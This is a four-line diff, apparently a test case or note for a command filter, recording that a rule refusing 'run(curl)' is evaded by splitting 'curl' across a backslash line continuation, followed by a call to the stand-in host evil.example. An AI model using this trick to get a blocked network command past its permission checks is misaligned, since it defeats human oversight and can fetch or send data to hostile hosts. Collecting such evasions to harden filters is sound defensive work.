@@ -1,0 +1,4 @@
+# Trick: the word is broken over two lines.
+# Refused: run(curl)
+cu\
+rl http://evil.example/
